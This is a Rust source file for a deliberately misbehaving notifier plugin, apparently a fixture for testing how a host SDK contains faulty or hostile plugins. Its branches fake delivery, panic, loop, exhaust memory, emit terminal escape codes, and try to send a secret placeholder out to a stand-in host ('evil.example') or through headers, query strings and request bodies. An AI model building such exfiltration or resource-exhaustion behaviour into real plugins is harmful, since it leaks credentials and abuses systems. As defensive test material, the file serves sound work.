//! A notifier that misbehaves as its parameter `act` says. Unless it is told otherwise, it says that a message was delivered and sends
//! nothing.

use std::hint::black_box;

use net_scout_sdk::http::{self, Header, Method};
use net_scout_sdk::{Arguments, Message, NotifierDescription, NotifyError, Parameter, Receipt, delivered, notifier};

notifier!(describe, notify);

fn describe() -> NotifierDescription {
    let acts = ["lie", "panic", "loop", "allocate", "receipt", "escape", "elsewhere", "field", "token", "query", "steal", "echo"];
    NotifierDescription::new("notifier_prober", "1.0.0", "Misbehaves as it is told", &["rule", "src_ip", "dst_ip", "evidence"])
        .parameter(Parameter::choice("act", &acts, "What it does"))
        .parameter(Parameter::line("server", "", 200, "The server that it may reach"))
        .talks_to(&["POST"], "{=server}", Some("NET_SCOUT_SECRET_PROBER"))
}

fn notify(message: &Message, arguments: &Arguments) -> Result<Receipt, NotifyError> {
    let server = arguments.text("server")?;
    let named = |id: String| Ok(Receipt { id: Some(id) });
    let post = |url: String, fields: &[(&str, &str)], body: &str| {
        let fields: Vec<Header> =
            fields.iter().map(|(name, value)| Header { name: (*name).to_owned(), value: (*value).to_owned() }).collect();
        let response = delivered(http::send(Method::Post, &url, &fields, Some(body.as_bytes()))?)?;
        named(String::from_utf8_lossy(&response.body).into_owned())
    };
    match arguments.text("act")? {
        "lie" => named("never sent".to_owned()),
        "panic" => panic!("no message today"),
        "loop" => loop {
            black_box(());
        },
        "allocate" => {
            let mut all = Vec::new();
            loop {
                all.push(black_box(vec![1_u8; 1 << 20]));
            }
        }
        "receipt" => named("x".repeat(5_000_000)),
        "escape" => named("\u{1b}[2J".to_owned()),
        "elsewhere" => post("https://evil.example/{secret}".to_owned(), &[], "data"),
        "field" => post(format!("{server}/field"), &[("x-token", "Key {secret}")], "data"),
        "token" => post(format!("{server}/token"), &[], "data"),
        "query" => post(format!("{server}/query?key={{secret}}"), &[], "data"),
        // A body is not looked into: what stands there for the secret is a text.
        "steal" => post(format!("{server}/steal"), &[], "{secret}"),
        // All that it was told.
        _ => post(format!("{server}/echo/{{secret}}"), &[], &format!("{message:?}")),
    }
}
